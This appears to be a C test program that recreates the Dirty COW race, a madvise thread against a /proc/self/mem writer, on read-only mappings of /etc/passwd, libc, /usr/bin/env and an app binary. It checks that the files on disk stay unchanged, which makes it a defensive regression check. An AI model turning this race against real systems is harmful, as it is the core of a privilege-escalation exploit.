/* Writes its own code through /proc/self/mem, while the pages are thrown away in a race. That may change its own copy, but never the file. */
#define _GNU_SOURCE
#include "attempt.h"

#include <fcntl.h>
#include <pthread.h>
#include <sys/mman.h>
#include <time.h>
#include <unistd.h>

static volatile bool over;
static char *mapped;
static long written;

static void *throw_away(void *nothing)
{
    while (!over)
        madvise(mapped, 4096, MADV_DONTNEED);
    return nothing;
}

static void *write_over(void *nothing)
{
    int memory = open("/proc/self/mem", O_RDWR);
    while (!over)
        written += pwrite(memory, "SERIN", 5, (off_t)mapped) == 5;
    return nothing;
}

static void race(const char *path)
{
    char before[4096] = {0}, after[4096] = {0};
    const struct timespec while_racing = {.tv_nsec = 100000000};
    pthread_t threads[2];
    int file = open(path, O_RDONLY);
    mapped = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, file, 0);
    if (!holds(path, mapped != MAP_FAILED && pread(file, before, sizeof before, 0) > 0))
        return;
    over = false;
    if (pthread_create(&threads[0], NULL, throw_away, NULL) != 0 || pthread_create(&threads[1], NULL, write_over, NULL) != 0)
        return;
    nanosleep(&while_racing, NULL);
    over = true;
    pthread_join(threads[0], NULL);
    pthread_join(threads[1], NULL);
    holds("the file is the same", pread(file, after, sizeof after, 0) > 0 && memcmp(before, after, sizeof after) == 0);
    close(file);
}

int main(void)
{
    race("/etc/passwd");
    race("/app/program");
    race("/usr/lib/x86_64-linux-gnu/libc.so.6");
    race("/usr/bin/env");
    fprintf(stderr, "%ld writes into its own memory\n", written);
    return told(8);
}
